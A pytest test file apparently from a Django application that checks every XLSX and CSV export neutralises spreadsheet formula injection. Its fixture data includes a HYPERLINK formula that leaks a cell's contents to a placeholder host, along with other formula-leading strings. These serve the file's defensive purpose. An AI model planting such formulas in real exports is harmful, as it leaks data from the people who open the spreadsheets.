"""Every XLSX and CSV download opens as plain values, whatever users typed into Mitra.

The exports are found twice: declared below, and by walking the URL patterns for views that
answer through `mitra.lib.sheets` or whose file the worker makes (`@made_by_the_worker`: asked
for, built by the task, then downloaded); the two must agree, so a new export is tested or the
suite fails. A grep makes sure no module writes a spreadsheet without that module.
"""

import csv
import inspect
import io
import re
from pathlib import Path

import pytest
from django.urls import resolve, reverse
from openpyxl import load_workbook

from mitra.cooperations.models import Cooperation
from mitra.cooperations.services import record_past_state
from mitra.lib import sheets
from mitra.staff.tests.helpers import profile, tasks
from tests.downloads import through_the_worker
from tests.factories import make_cooperation, make_partner
from tests.shared import url_views

ROOT = Path(__file__).resolve().parent.parent

# url name, arguments, whether the hostile titles must appear in it
EXPORTS: list[tuple[str, list[str], bool]] = [
    ("cooperations:export_xlsx", [], True),
    ("cooperations:export_csv", [], True),
    ("staff:capacity_xlsx", [], True),
    *(
        ("staff:capacity_csv", [table], table == "unowned")
        for table in ("unowned", "overloaded", "languages", "overdue")
    ),
    ("implementation:export", [], True),
    ("reports:xlsx", [], True),
    ("imports:template", [], False),
]
# Files the worker makes that are not spreadsheets.
NOT_SPREADSHEETS = {"reports:pdf": "the report's PDF (tests/test_long_files_use_the_worker.py)"}
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A3,"Klik")',
    "+62 411 123",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "Bandung\x0bLama",
]


def _lines(text: str) -> str:
    """XML reads a carriage return back as a line feed."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


# Whatever the writer produced for a hostile title, read back.
SEEN = [re.compile(r"^'?" + re.escape(_lines(value.replace("\x0b", "")))) for value in HOSTILE]
WRITES_SHEETS = re.compile(
    r"spreadsheetml\.sheet\b|text/csv|csv\.writer|\bWorkbook\(|import Workbook"
)


def test_every_view_answering_with_a_spreadsheet_is_declared_here():
    patterns = list(url_views())
    found = {
        name
        for name, view in patterns
        if re.search(r"sheets\.(xlsx_response|csv_response|XLSX_TYPE|CSV_TYPE)", _source(view))
    }
    from_the_worker = {name for name, view in patterns if getattr(view, "made_by_the_worker", 0)}
    assert found | (from_the_worker - set(NOT_SPREADSHEETS)) == {n for n, _a, _h in EXPORTS}
    assert set(NOT_SPREADSHEETS) <= from_the_worker


def _source(view: object) -> str:
    try:
        return inspect.getsource(inspect.unwrap(view))
    except (OSError, TypeError):
        return ""


def test_no_module_writes_a_spreadsheet_except_through_mitra_lib_sheets():
    writers = [
        str(path.relative_to(ROOT))
        for path in (ROOT / "mitra").rglob("*.py")
        if "tests" not in path.parts
        and path.name != "sheets.py"
        and WRITES_SHEETS.search(path.read_text(encoding="utf-8"))
    ]
    assert writers == []


@pytest.fixture
def hostile_data(tenant, cooperation_officer):
    partner = make_partner(tenant, name=HOSTILE[0])
    for title in HOSTILE:
        coop = make_cooperation(tenant, title=title, partners=[partner])
        record_past_state(coop, Cooperation.State.IMPLEMENTATION, by=None, note="test setup")
    profile(tenant, cooperation_officer, ("id", "native"), max_load=1)
    tasks(tenant, cooperation_officer, 1)


def _xlsx_values(content: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    return [cell.value for cell in cells]


def _csv_values(content: bytes) -> list[object]:
    text = content.decode("utf-8-sig")
    values = [value for row in csv.reader(io.StringIO(text, newline="")) for value in row]
    assert [v for v in values if v.startswith(sheets.FORMULA_STARTS)] == []
    return list(values)


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "args", "shows_titles"), EXPORTS, ids=lambda v: str(v))
def test_every_export_holds_hostile_text_as_plain_values(
    client_as, tenant_admin, hostile_data, name, args, shows_titles
):
    client, url = client_as(tenant_admin), reverse(name, args=args)
    worker = getattr(resolve(url).func, "made_by_the_worker", False)
    response = through_the_worker(client, url) if worker else client.get(url)
    assert response.status_code == 200
    is_csv = response["Content-Type"] == sheets.CSV_TYPE
    values = _csv_values(response.content) if is_csv else _xlsx_values(response.content)
    texts = [_lines(v) for v in values if isinstance(v, str)]
    assert not any("\x0b" in text for text in texts)
    if shows_titles:
        for pattern in SEEN:
            assert any(pattern.match(text) for text in texts), pattern.pattern
